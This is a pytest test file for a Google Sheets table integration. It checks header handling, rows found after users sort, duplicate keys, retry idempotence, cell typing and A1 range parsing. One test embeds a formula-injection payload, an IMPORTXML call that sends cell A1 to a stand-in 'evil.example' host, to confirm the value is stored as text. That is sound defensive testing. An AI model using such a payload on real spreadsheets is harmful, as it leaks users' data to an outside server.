"""A sheet as a table: where its rows are, what its cells become, what people do to it meanwhile."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from pydantic import ValidationError

from oploop.apps.sandbox import Fault
from oploop.apps.sheets import SheetsConfig, a1
from oploop.apps.sheets.client import TableConfig
from oploop.apps.sheets.sandbox import COLUMNS
from oploop.apps.sheets.sandbox_a1 import Range, parse
from oploop.apps.sheets.tables import Grid, typed, written
from oploop.apps.transport import LostAnswer
from oploop.errors import FixConfig
from oploop.records import Canonical, Op, Outcome
from tests.apps.sheets.support import bench, rows, step


async def test_a_blank_sheet_gets_a_header_and_a_full_one_more_room() -> None:
    async with bench() as (box, app):
        assert await rows(app) == []
        await app.send(step(Op.UPSERT, {"Account": "A", "Target": Decimal("5.50"), "Since": date(2026, 1, 2)}))
        assert box.tab.rows == [list(COLUMNS), ["A", 5.5, "", "2026-01-02"]]
        box.tab.row_count = 3
        await app.send(step(Op.UPSERT, *[{"Account": f"N{n}", "Target": n} for n in range(5)]))
        assert (len(box.tab.rows), box.tab.row_count) == (7, 7)


async def test_a_formula_in_a_value_is_text() -> None:
    async with bench() as (box, app):
        evil = '=IMPORTXML("https://evil.example/?"&A1, "//a")'
        await app.send(step(Op.UPSERT, {"Account": "A", "Owner": evil}, {"Account": "+1", "Owner": "@x"}))
        assert [r["Owner"] for r in box.dump("targets")] == [evil, "@x"]


async def test_columns_stand_where_people_put_them_and_theirs_are_left_alone() -> None:
    async with bench() as (box, app):
        box.tab.rows[:] = [["Notes", "Active", "Account", "Since", "Target", "Owner"], ["mine", "", "A", 46024, 1, "x"]]
        [row] = await rows(app)
        assert (row["Account"], row["Target"], row["Since"]) == ("A", 1.0, date(2026, 1, 2))
        await app.send(step(Op.UPDATE, {"Account": "A", "Target": 2, "Owner": "y", "Active": False}))
        assert box.tab.rows[1] == ["mine", False, "A", 46024, 2, "y"]
        [put] = [e for e in box.log if "batchUpdate" in e.path]
        assert b"Notes" not in put.body
        assert b"mine" not in put.body


async def test_a_row_is_found_where_it_is_now() -> None:
    async with bench() as (box, app):
        box.load("targets", [{"Account": f"A{n}", "Target": n} for n in range(5)])
        box.tab.rows[1:] = [["", "", "a heading"], *reversed(box.tab.rows[1:])]  # somebody sorts, and puts a line in
        receipts = await app.send(step(Op.UPDATE, {"Account": "A1", "Target": 10}, {"Account": "gone", "Target": 1}))
        assert {r.number: r.outcome for r in receipts} == {1: Outcome.OK, 2: Outcome.REJECTED}
        assert [r["Target"] for r in box.dump("targets") if r["Account"] == "A1"] == [10]
        await app.send(step(Op.REMOVE, {"Account": "A4"}, {"Account": "A0"}, {"Account": "gone"}))
        assert [r["Account"] for r in box.dump("targets")] == ["", "A3", "A2", "A1"]
        await rows(app)
        assert app.notes == ["targets: 1 rows without a key were not read"]


async def test_a_key_that_stands_twice_is_refused_with_its_rows() -> None:
    async with bench() as (box, app):
        box.load("targets", [{"Account": "A"}, {"Account": "B"}, {"Account": " A "}])
        receipts = await app.send(step(Op.UPDATE, {"Account": "A", "Target": 1}, {"Account": "B", "Target": 2}))
        said = {r.number: (r.outcome, r.error) for r in receipts}
        assert said == {1: (Outcome.REJECTED, "the key stands in rows 2, 4 of the sheet"), 2: (Outcome.OK, None)}


async def test_a_key_with_blanks_around_or_a_ticked_box_is_the_same_key_when_read_and_when_written() -> None:
    async with bench() as (box, app):
        box.load("targets", [{"Account": " A "}, {"Account": True}])
        assert [r["Account"] for r in await rows(app)] == ["A", "TRUE"]
        await app.send(step(Op.UPSERT, {"Account": "A", "Target": 1}, {"Account": "TRUE", "Target": 2}))
        await app.send(step(Op.UPDATE, {"Account": " A", "Owner": "x"}))  # an id of an older read
        assert [(r["Target"], r["Owner"]) for r in box.dump("targets")] == [(1, "x"), (2, "")]
        assert app.objects["targets"].fields["Account"].canonical is Canonical.TRIM


async def test_a_header_that_was_cleared_makes_no_row_gone_and_no_second_table() -> None:
    async with bench() as (box, app):
        box.tab.rows[:] = [["", ""], ["A", 1], ["B", 2]]
        with pytest.raises(FixConfig, match="has rows, and no names of columns in row 1"):
            await rows(app)
        with pytest.raises(FixConfig, match="no names of columns"):
            await app.send(step(Op.UPSERT, {"Account": "A", "Target": 3}))
        assert box.tab.rows[1:] == [["A", 1], ["B", 2]]


async def test_what_is_only_for_new_rows_is_left_in_one_that_is_there() -> None:
    async with bench() as (box, app):
        box.load("targets", [{"Account": "A", "Owner": "theirs", "Target": 1}])
        new = {"Owner": "ours", "Target": 2}
        await app.send(step(Op.UPSERT, {"Account": "A", **new}, {"Account": "B", **new}, once=frozenset({"Owner"})))
        assert [(r["Owner"], r["Target"]) for r in box.dump("targets")] == [("theirs", 2), ("ours", 2)]


async def test_a_lost_answer_and_the_same_step_again_make_one_row() -> None:
    async with bench() as (box, app):
        box.faults.append(Fault("POST .*values:batchUpdate", "lose"))
        with pytest.raises(LostAnswer):
            await app.send(step(Op.UPSERT, {"Account": "A", "Target": 1}))
        await app.send(step(Op.UPSERT, {"Account": "A", "Target": 1}))
        assert len(box.dump("targets")) == 1


async def test_what_the_sheet_lacks_is_named() -> None:
    async with bench() as (box, app):
        box.tab.rows[:] = [["Account", "Target"]]
        with pytest.raises(FixConfig, match="no column 'Owner' in row 1"):
            await rows(app)
        box.tab.rows[:] = [[*COLUMNS, "Target"]]
        with pytest.raises(FixConfig, match="has the column 'Target' twice in row 1"):
            await rows(app)
        box.tab.title = "Renamed"
        with pytest.raises(FixConfig, match=r"no sheet 'Targets' — it has: Renamed"):
            await app.check()
    with pytest.raises(FixConfig, match="key is no service account's key"):
        async with bench(config={"key": '{"type": "authorized_user"}'}):
            pass


def test_a_block_says_what_is_wrong_with_it() -> None:
    table = {"spreadsheet": "x", "sheet": "S", "key": "a", "columns": {"a": "text"}}
    for wrong, said in (({"key": "b"}, "must be one of columns"), ({"columns": {"a": "number"}}, "text or integer")):
        with pytest.raises(ValidationError, match=said):
            SheetsConfig(key="{}", sheets={"t": {**table, **wrong}})
    with pytest.raises(ValidationError, match="cannot be a table's name"):
        SheetsConfig(key="{}", sheets={"My Table": table})


def test_cells_and_values() -> None:
    assert typed(46024.5, "timestamp") == "2026-01-02T12:00:00.000+00:00"
    assert typed(12.0, "text") == "12"
    assert typed(True, "text") == "TRUE"
    assert typed("", "number") is None
    assert typed(1e12, "date") == 1e12  # no day of the calendar; NULL in its column
    assert typed(-1e9, "timestamp") == -1e9
    assert typed(2958465.5, "timestamp") == "9999-12-31T12:00:00.000+00:00"
    assert written(None) == ""
    assert written(datetime(2026, 1, 2, 3, tzinfo=UTC)) == "2026-01-02T03:00:00Z"
    assert written(Decimal("3.00")) == 3


def test_ranges_are_read_and_written() -> None:
    assert a1.cells("Q3 'x'", 5, 27, 29) == "'Q3 ''x'''!AA5:AC5"
    assert parse("'Q3 ''x'''!AA5:AC5") == Range("Q3 'x'", 5, 27, 5, 29)
    assert parse("S!B2") == Range("S", 2, 2, 2, 2)
    assert parse("S!A:C") == Range("S", None, 1, None, 3)
    assert parse("S") == Range("S")
    with pytest.raises(ValueError):
        parse("S!?")


def test_columns_are_turned_rows() -> None:
    kinds = {"k": "text", "n": "number", "d": "date", "on": "boolean"}
    table = TableConfig.model_validate({"spreadsheet": "x", "sheet": "S", "key": "k", "columns": kinds})
    sheet = [
        ["n", "k", "on", "more", "d"],
        [1, " a ", True, "x", 46024],
        [2.5, 12.0],
        [],
        [3, ""],
        ["", "b", "", 7, "x"],
    ]
    assert Grid(table, sheet).values() == {
        "k": ["a", "12", "b"],
        "n": [1, 2.5, None],
        "d": ["2026-01-02", None, "x"],
        "on": [True, None, None],
    }
    assert Grid(table, sheet).values({"12", "none"})["n"] == [2.5]
    assert Grid(table, sheet[:1]).values() == {name: [] for name in kinds}
    assert Grid(table, [sheet[0], [1, "a"]]).values()["d"] == [None], "a column that no row reaches"
